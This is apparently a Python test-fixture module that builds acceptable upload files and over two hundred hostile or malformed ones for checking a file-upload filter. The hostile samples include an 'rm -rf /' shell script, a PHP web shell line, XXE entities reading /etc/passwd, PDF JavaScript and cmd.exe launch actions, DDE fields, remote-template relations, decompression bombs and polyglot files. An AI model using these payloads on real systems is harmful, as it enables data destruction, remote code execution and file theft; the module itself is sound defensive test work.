"""Files as people bring them, and as nobody should: each made here, none from anywhere else."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EXE = b"MZ" + b"\x90\x00\x03" + bytes(200) + b"This program cannot be run in DOS mode" + bytes(400)
SHELL = b"#!/bin/sh\nrm -rf /\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)


def picture(format: str = "JPEG", size: tuple[int, int] = (60, 40), **more: Any) -> bytes:
    out = io.BytesIO()
    drawn = Image.new("RGB", size, (90, 120, 60))
    for x in range(0, size[0], 3):
        drawn.putpixel((x, x % size[1]), (200, 30, x % 255))
    drawn.save(out, format, **more)
    return out.getvalue()


def photo_with_place() -> bytes:
    """As a telephone takes it: turned by a mark, and knowing where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Telephone"
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 26.5), 3: "W", 4: (0.0, 7.0, 39.9)}
    return picture(exif=exif.tobytes(), comment=b"at home")


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **how: Any) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    made.pages[0].Contents = made.make_stream(b"BT /F1 12 Tf 20 100 Td (A letter) Tj ET")
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def text_box(made: pikepdf.Pdf, annotation: Dictionary) -> None:
    made.pages[0].Annots = made.make_indirect(Array([made.make_indirect(annotation)]))


TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    "</Types>"
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="word/document.xml"/>'
    f'<Relationship Id="rId2" Type="{_REL}/metadata/core-properties" Target="docProps/core.xml"/></Relationships>'
)
CORE = (
    '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Ana Deol</dc:creator></cp:coreProperties>'
)


def body(words: str = "A letter.", more: str = "") -> str:
    return (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{words}</w:t>{more}</w:r></w:p></w:body></w:document>"
    )


def relation(kind: str, target: str, mode: str = "") -> str:
    outside = f' TargetMode="{mode}"' if mode else ""
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{_REL}/{kind}" Target="{target}"{outside}/></Relationships>'
    )


def docx(more: dict[str, bytes | str] | None = None, *, without: tuple[str, ...] = (), **changes: str) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": changes.get("types", TYPES),
        "_rels/.rels": RELATIONS,
        "word/document.xml": changes.get("document", body()),
        "docProps/core.xml": CORE,
        **(more or {}),
    }
    return packed({name: part for name, part in parts.items() if name not in without})


def packed(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def right() -> dict[str, bytes]:
    """What people bring, by the name under which they bring it."""
    return {
        "letter.pdf": pdf(),
        "Letter of 3 May.PDF": pdf(),
        "photo.jpg": picture(),
        "photo.JPEG": photo_with_place(),
        "drawing.png": picture("PNG"),
        "note.txt": "She brought the café’s bill.\nIt is from May.\n".encode(),
        "old.txt": "Déjà vu, £5.\nFrom an older machine.\n".encode("cp1252"),
        "letter.docx": docx(),
        "with picture.docx": docx(
            {
                "word/media/image1.jpeg": picture(),
                "word/_rels/document.xml.rels": relation("image", "media/image1.jpeg"),
            }
        ),
        "scan.letter.final.pdf": pdf(),
    }


# What must never be taken, each with the name it comes under.


def wrong() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, its name, its content): more than two hundred."""
    yield from _under_a_false_name()
    yield from _with_a_false_ending()
    yield from _half()
    yield from _pdfs()
    yield from _documents()
    yield from _pictures()
    yield from _texts()
    yield from _names()


def _under_a_false_name() -> Iterator[tuple[str, str, bytes]]:
    contents = {
        "html": HTML,
        "svg": SVG,
        "exe": EXE,
        "shell": SHELL,
        "old office": OLE,
        "gif": picture("GIF"),
        "bmp": picture("BMP"),
        "webp": picture("WEBP"),
        "tiff": picture("TIFF"),
        "zip": packed({"a.txt": "a"}),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(300),
        "rtf": rb"{\rtf1\ansi A letter\par}",
        "postscript": b"%!PS-Adobe-3.0\n/Courier findfont\nshowpage\n",
        "xml": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        "gzip": b"\x1f\x8b\x08\x00" + bytes(100),
        "sqlite": b"SQLite format 3\x00" + bytes(200),
        "php": b"<?php system($_GET['c']); ?>",
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
    }
    own = {"pdf": pdf(), "jpg": picture(), "png": picture("PNG"), "docx": docx()}
    for ending in ("pdf", "jpg", "png", "docx"):
        for what, content in contents.items():
            yield f"{what} as {ending}", f"paper.{ending}", content
        for kind, content in own.items():
            if kind != ending:
                yield f"{kind} as {ending}", f"paper.{ending}", content
    for what, content in {**contents, **own}.items():
        if what not in {"rtf", "shell", "php"}:
            yield f"{what} as txt", "paper.txt", content
    yield "html as txt", "paper.txt", HTML
    yield "shell as txt", "paper.txt", SHELL
    yield "php as txt", "paper.txt", contents["php"]


def _with_a_false_ending() -> Iterator[tuple[str, str, bytes]]:
    endings = ("exe", "html", "svg", "docm", "dotm", "js", "hta", "lnk", "php", "bat", "scr", "zip", "heic", "gif")
    for ending in endings:
        yield f"a pdf called {ending}", f"letter.pdf.{ending}", pdf()
        yield f"a picture called {ending}", f"photo.{ending}", picture()
    for name in ("letter", "letter.", ".pdf ", "letter.pdf.", "pdf", "letter.pdf;.exe", "letter.pdf%00.exe"):
        yield f"a pdf called {name!r}", name, pdf() if name != ".pdf " else EXE


def _half() -> Iterator[tuple[str, str, bytes]]:
    """Only their beginning is what they say."""
    for name, whole in (("a.pdf", pdf()), ("a.jpg", picture()), ("a.png", picture("PNG")), ("a.docx", docx())):
        for part in (0.15, 0.4, 0.6):
            yield f"{part} of {name}", name, whole[: int(len(whole) * part)]
    for start, name in (
        (b"%PDF-1.7\n", "a.pdf"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "a.jpg"),
        (b"\x89PNG\r\n\x1a\n", "a.png"),
    ):
        for what, after in (("html", HTML), ("exe", EXE), ("noughts", bytes(5_000)), ("svg", SVG)):
            yield f"{what} after the first bytes of {name}", name, start + after


def _pdfs() -> Iterator[tuple[str, str, bytes]]:
    def acting(action: Callable[[], Dictionary]) -> Callable[[pikepdf.Pdf], None]:
        def change(made: pikepdf.Pdf) -> None:
            made.Root.OpenAction = made.make_indirect(action())

        return change

    def script() -> Dictionary:
        return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))

    def link(action: Callable[[], Dictionary]) -> Callable[[pikepdf.Pdf], None]:
        return lambda made: text_box(
            made, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action())
        )

    def box(subtype: str) -> Callable[[pikepdf.Pdf], None]:
        return lambda made: text_box(made, Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 9, 9]))

    actions: dict[str, Callable[[], Dictionary]] = {
        "script": script,
        "launch": lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")),
        "submit": lambda: Dictionary(S=Name.SubmitForm, F=String("http://192.0.2.1/")),
        "import": lambda: Dictionary(S=Name.ImportData, F=String("x.fdf")),
        "other file": lambda: Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        "embedded": lambda: Dictionary(S=Name.GoToE, D=Array([0, Name.Fit])),
        "rendition": lambda: Dictionary(S=Name.Rendition, JS=String("x")),
        "address of a script": lambda: Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        "address of a file": lambda: Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        "next": lambda: Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script()),
    }
    for what, action in actions.items():
        for how, more in (("plain", {}), ("packed", {"object_stream_mode": pikepdf.ObjectStreamMode.generate})):
            yield f"pdf: {what} at its opening, {how}", "a.pdf", pdf(acting(action), **more)
        yield f"pdf: {what} behind a link", "a.pdf", pdf(link(action))

    def names(made: pikepdf.Pdf) -> None:
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))

    def attached(made: pikepdf.Pdf) -> None:
        made.attachments["x.exe"] = pikepdf.AttachedFileSpec(made, EXE, filename="x.exe")

    def page_script(made: pikepdf.Pdf) -> None:
        made.pages[0].AA = Dictionary(O=script())

    def form(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))

    def portfolio(made: pikepdf.Pdf) -> None:
        made.Root.Collection = Dictionary()

    for what, change in (
        ("scripts by name", names),
        ("a file in it", attached),
        ("a script of its page", page_script),
        ("a form of another kind", form),
        ("a portfolio", portfolio),
    ):
        yield f"pdf: {what}", "a.pdf", pdf(change)
    for subtype in ("FileAttachment", "RichMedia", "Screen", "Movie", "Sound"):
        yield f"pdf: {subtype}", "a.pdf", pdf(box(subtype))
    locked = pikepdf.Encryption(owner="a", user="b")
    yield "pdf: locked", "a.pdf", pdf(encryption=locked)
    yield "pdf: locked, opens for anybody", "a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    hidden = pdf(acting(script)).replace(b"/JavaScript", b"/J#61vaScript")
    yield "pdf: a script under a spelt name", "a.pdf", hidden

    def many(made: pikepdf.Pdf) -> None:
        for _number in range(501):
            made.pages.append(made.pages[0])

    yield "pdf: too many pages", "a.pdf", pdf(many)


def _documents() -> Iterator[tuple[str, str, bytes]]:
    macro = TYPES.replace("wordprocessingml.document.main", "x").replace(
        "vnd.openxmlformats-officedocument.x+xml", "vnd.ms-word.document.macroEnabled.main+xml"
    )
    yield "docm as docx", "a.docx", docx({"word/vbaProject.bin": OLE}, types=macro)
    for part in ("word/vbaProject.bin", "word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin", "x.exe"):
        yield f"docx with {part}", "a.docx", docx({part: OLE})
    for part in ("word/media/image1.svg", "word/media/image1.emf", "word/afchunk.html", "word/embeddings/a.xlsx"):
        yield f"docx with {part}", "a.docx", docx({part: HTML})
    for kind in ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "aFChunk", "package", "control"):
        for target in ("http://192.0.2.1/x.dotm", "file:///c:/x.dotm", "\\\\192.0.2.1\\x"):
            link = relation(kind, target, "External")
            yield f"docx: {kind} from {target}", "a.docx", docx({"word/_rels/document.xml.rels": link})
    for target in ("javascript:alert(1)", "file:///etc/passwd", "ms-msdt:/id"):
        link = relation("hyperlink", target, "External")
        yield f"docx: link to {target}", "a.docx", docx({"word/_rels/document.xml.rels": link})
    for field in (
        'DDEAUTO c:\\\\x "a"',
        "DDE x",
        'INCLUDETEXT "http://192.0.2.1/"',
        'INCLUDEPICTURE "http://192.0.2.1/"',
    ):
        more = f"<w:instrText>{field.replace(chr(34), '&quot;')}</w:instrText>"
        yield f"docx: field {field}", "a.docx", docx(document=body(more=more))
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    outside = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    for what, kind in (("entities", laughs), ("an outside entity", outside), ("a plain doctype", "<!DOCTYPE l>")):
        yield f"docx: {what}", "a.docx", docx(document=body().replace("?>", f"?>{kind}", 1))
    yield "docx: broken xml", "a.docx", docx(document="<w:document><w:body>")
    for needed in ("[Content_Types].xml", "_rels/.rels", "word/document.xml"):
        yield f"docx without {needed}", "a.docx", docx(without=(needed,))
    for name in ("../../evil.xml", "/etc/evil.xml", "word\\evil.xml", "WORD/DOCUMENT.XML"):
        yield f"docx with a part called {name}", "a.docx", docx({name: body()})
    yield "docx: bomb", "a.docx", docx(document=body("a" * 19_000_000))
    yield "docx: bomb in many parts", "a.docx", docx({f"word/p{n}.xml": b" " * 6_000_000 for n in range(9)})
    yield "docx: too many parts", "a.docx", docx({f"word/p{n}.xml": b"<a/>" for n in range(1_001)})
    yield "docx: a size that is not so", "a.docx", _lying_about_size()
    yield "docx: a picture that is a page", "a.docx", docx({"word/media/image1.jpeg": HTML})
    yield "docx: a huge picture", "a.docx", docx({"word/media/image1.png": huge_png(20_000, 20_000)})


def _lying_about_size() -> bytes:
    whole = docx(document=body("b" * 5_000))
    size = struct.pack("<L", len(body("b" * 5_000)))
    return whole.replace(size, struct.pack("<L", 700))


def huge_png(width: int, height: int) -> bytes:
    """Says that it is that large; holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))

    head = struct.pack("!LLBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(10))) + chunk(b"IEND", b"")


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    for width, height in ((50_000, 50_000), (7_000, 7_000), (1, 20_000), (100_000, 10), (2**31 - 1, 1)):
        yield f"png of {width} by {height}", "a.png", huge_png(width, height)
    jpeg = bytearray(picture())
    place = jpeg.index(b"\xff\xc0") + 5
    jpeg[place : place + 4] = struct.pack("!HH", 60_000, 60_000)
    yield "jpeg of 60000 by 60000", "a.jpg", bytes(jpeg)
    png = picture("PNG")
    yield "png without its dots", "a.png", png[:33] + png[-12:]
    yield "png with a false sum", "a.png", png[:40] + bytes([png[40] ^ 255]) + png[41:]


def _texts() -> Iterator[tuple[str, str, bytes]]:
    for sign in (b"\x00", b"\x1b[2J", b"\x07", b"\x08", b"\x7f"):
        yield f"text with {sign!r}", "a.txt", b"A letter " + sign + b" goes on."
    yield "noise as text", "a.txt", bytes(range(256)) * 20


def _names() -> Iterator[tuple[str, str, bytes]]:
    for sign in ("\x00", "\u202e", "\u2066", "\u200b", "\n", "\r", "\x1b", "\u2028", "\ufeff"):
        yield f"a name with {sign!r}", f"let{sign}ter.pdf", pdf()
    yield "a name of signs only", "\u202e\u202d", pdf()
    yield "no name", "", pdf()
    yield "a name of folders only", "../../", pdf()
    yield "nothing", "a.pdf", b""
    yield "too large", "a.pdf", pdf() + bytes(10_000_000)


def two_at_once() -> dict[str, bytes]:
    """Right by every reader, and something else as well. They may be taken, if only their own kind is left of them."""
    return {
        "behind.pdf": pdf() + HTML,
        "archive.pdf": pdf() + packed({"evil.exe": EXE}),
        "behind.jpg": picture() + HTML,
        "archive.jpg": picture() + packed({"evil.exe": EXE}),
        "comment.jpg": picture(comment=HTML),
        "behind.png": picture("PNG") + HTML,
        "words.png": _png_with_words(),
        "behind.docx": docx() + HTML,
    }


def _png_with_words() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", HTML.decode())
    return picture("PNG", pnginfo=info)
